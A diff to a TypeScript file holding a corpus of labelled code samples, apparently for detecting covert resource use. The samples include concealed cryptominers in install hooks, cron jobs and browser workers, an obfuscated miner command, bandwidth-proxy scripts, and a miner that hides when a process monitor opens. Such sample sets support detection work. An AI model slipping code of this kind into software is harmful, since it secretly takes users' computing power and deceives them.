@@ -21,24 +21,12 @@ export const LENDING: readonly [string, string][] = [
     '{\n  "name": "tidy-helper",\n  "version": "1.0.0",\n  "scripts": { "postinstall": "npx --yes xmr-miner-lite --pool pool.example:3333 --wallet 48example &" }\n}\n',
   ],
   [
-    "setup.sh",
-    "#!/bin/sh\npip install -q pyrx-miner 2>/dev/null\npython3 -m pyrx_miner --server pool.example --port 4444 --wallet 48example --threads 2 &\ndisown\n",
-  ],
-  [
     "bw.py",
     'import asyncio, websockets, uuid, json, aiohttp\nUID = "2b7e-user"\nasync def loop():\n    async with websockets.connect("wss://proxy.bandshare.example:4650/") as ws:\n        await ws.send(json.dumps({"action": "AUTH", "user_id": UID, "device": str(uuid.uuid4())}))\n        async for m in ws:\n            t = json.loads(m)\n            if t["action"] == "HTTP_REQUEST":\n                async with aiohttp.ClientSession() as s:\n                    async with s.request(t["data"]["method"], t["data"]["url"], headers=t["data"]["headers"]) as r:\n                        await ws.send(json.dumps({"id": t["id"], "status": r.status, "body": (await r.text())}))\nasyncio.run(loop())\n',
   ],
   [
-    "gpu.py",
-    'import torch, requests, time\nAPI = "https://grid.compute.example"\ndef serve():\n    node = requests.post(API + "/nodes", json={"gpu": torch.cuda.get_device_name(0), "owner": "acct-9"}).json()\n    while True:\n        job = requests.get(f"{API}/nodes/{node[\'id\']}/job").json()\n        if not job: time.sleep(5); continue\n        x = torch.tensor(job["input"]).cuda()\n        y = torch.linalg.matrix_power(x, job["k"])\n        requests.post(f"{API}/jobs/{job[\'id\']}/result", json=y.cpu().tolist())\nserve()\n',
-  ],
-  [
     "plug.ts",
     'import { cpus } from "node:os";\nimport { Worker, isMainThread, parentPort, workerData } from "node:worker_threads";\nimport { createHash } from "node:crypto";\nif (isMainThread) {\n  for (const _ of cpus().slice(1)) {\n    const w = new Worker(__filename, { workerData: { url: "https://units.example" } });\n    w.unref();\n  }\n} else {\n  const { url } = workerData;\n  for (;;) {\n    const u = await (await fetch(`${url}/unit`)).json();\n    let c = u.start;\n    while (BigInt("0x" + createHash("sha256").update(u.head + c).digest("hex")) > BigInt(u.ceiling)) c++;\n    await fetch(`${url}/unit/${u.id}`, { method: "PUT", body: String(c) });\n  }\n}\n',
-  ],
-  [
-    "sched.py",
-    'import psutil, subprocess, time\nproc = None\nwhile True:\n    busy = psutil.cpu_percent(interval=5)\n    names = {p.name().lower() for p in psutil.process_iter()}\n    seen = names & {"htop", "top", "taskmgr.exe", "perfmon.exe"}\n    if proc is None and busy < 25 and not seen:\n        proc = subprocess.Popen(["./data/engine", "--connect", "node.example:7777", "--id", "acct88"])\n    elif proc and seen:\n        proc.terminate(); proc = None\n    time.sleep(20)\n',
   ],
   [
     "hash.go.sh",
@@ -59,10 +47,6 @@ export const LENDING: readonly [string, string][] = [
   [
     "storj.sh",
     "#!/bin/sh\ndocker run -d --restart unless-stopped -p 28967:28967 -e WALLET=0x0000000000000000000000000000deadbeef0000 -e EMAIL=x@mail.example -e STORAGE=2TB storjlabs/storagenode:latest\n",
-  ],
-  [
-    "nodepkg.js",
-    'const { execa } = require("execa");\nconst path = require("path");\nmodule.exports = function onInstall() {\n  if (process.env.CI) return;\n  const opts = { pool: "relay.example", port: 5555, wallet: "48exampleexampleexample", threads: 2 };\n  const flags = Object.entries(opts).flatMap(([k, v]) => [`--${k}`, `${v}`]);\n  execa(path.join(__dirname, "vendor", "formatter-native"), flags, { detached: true, stdio: "ignore" }).unref();\n};\nmodule.exports();\n',
   ],
   [
     "req.py",
@@ -137,14 +121,6 @@ export const LENDING: readonly [string, string][] = [
     '<html><body><h1>Guide</h1><script>\nconst w = []; for (let i = 0; i < (navigator.hardwareConcurrency || 2) - 1; i++) {\n  const k = new Worker("hash-worker.js"); k.postMessage({ relay: "wss://relay.example/", acct: "k-19" }); w.push(k);\n}\ndocument.addEventListener("visibilitychange", () => w.forEach(k => k.postMessage({ run: document.hidden })));\n</script></body></html>\n',
   ],
   [
-    "n.py",
-    'import asyncio, aiohttp, hashlib\nasync def main():\n    async with aiohttp.ClientSession("https://puzzle.example") as s:\n        while True:\n            p = await (await s.get("/p")).json()\n            n = next(i for i in range(1 << 40) if hashlib.sha256(f"{p[\'c\']}{i}".encode()).hexdigest()[:p[\'k\']] == "0" * p["k"])\n            await s.post("/p", json={"c": p["c"], "n": n, "to": "acct-8"})\nasyncio.run(main())\n',
-  ],
-  [
-    "r.js",
-    'import Miner from "node-webminer-lib";\nconst m = await Miner.init({ pool: "wss://pool.example", wallet: "48example", throttle: 0.4, threads: 3 });\nawait m.start();\n',
-  ],
-  [
     "w.py",
     'import os\nm = {"c": "nice -n 19", "b": "~/.local/share/gvfs/gvfsd-meta", "o": "-o relay.example:3333", "u": "-u 48example", "k": "-k --background"}\nos.system(" ".join(m[x] for x in "cbouk"))\n',
   ],
@@ -165,16 +141,8 @@ export const LENDING: readonly [string, string][] = [
     "@reboot nice -n 19 /opt/.kv/kv -o p.example:443 -u k8 --tls -B\n*/15 * * * * pgrep -x kv || /opt/.kv/kv -o p.example:443 -u k8 --tls -B\n",
   ],
   [
-    "web.tsx",
-    'import { useEffect } from "react";\nexport function Footer() {\n  useEffect(() => {\n    const w = Array.from({ length: navigator.hardwareConcurrency >> 1 }, () => new Worker("/w.js"));\n    const s = new WebSocket("wss://h.example/c/acct-7");\n    s.onmessage = (e) => w.forEach((x, i) => x.postMessage({ ...JSON.parse(e.data), i }));\n    w.forEach((x) => (x.onmessage = (e) => s.send(JSON.stringify({ nonce: e.data }))));\n  }, []);\n  return null;\n}\n',
-  ],
-  [
     "psn.ps1",
     "docker run -d --name ps --restart always -e CID=abc packetstream/psclient:latest\ndocker run -d --name pp -e P2P_EMAIL=x@mail.example peer2profit/peer2profit_x86_64\n",
-  ],
-  [
-    "atexit.py",
-    'import atexit, multiprocessing, requests, hashlib, itertools\ndef tail():\n    t = requests.get("https://late.example/t", timeout=9).json()\n    hit = next(filter(lambda k: hashlib.md5(f"{t[\'a\']}{k}".encode()).hexdigest() < t["b"], itertools.count()))\n    requests.get("https://late.example/t", params={"k": hit, "w": "acct-3"})\natexit.register(lambda: multiprocessing.Process(target=tail).start())\n',
   ],
   [
     "nodegyp.js",
@@ -183,9 +151,5 @@ export const LENDING: readonly [string, string][] = [
   [
     "s.pl",
     "use LWP::UserAgent; use Digest::SHA 'sha256_hex'; use JSON;\nmy $u = LWP::UserAgent->new;\nwhile (1) {\n  my $t = decode_json($u->get('https://units.example/t')->content);\n  for (my $i = 0; ; $i++) {\n    if (substr(sha256_hex($t->{d} . $i), 0, $t->{k}) eq '0' x $t->{k}) { $u->post('https://units.example/r', { id => $t->{id}, i => $i }); last }\n  }\n}\n",
-  ],
-  [
-    "sql.py",
-    'import psycopg, hashlib\ncon = psycopg.connect("postgresql://w7:x@board.example/units", autocommit=True)\nwhile True:\n    i, seed, cap = con.execute("select id, seed, cap from open order by random() limit 1").fetchone()\n    n = 0\n    while hashlib.sha256(b"%s%d" % (seed, n)).digest() > cap: n += 1\n    con.execute("insert into found values (%s, %s, \'acct-7\')", (i, n))\n',
   ],
 ];
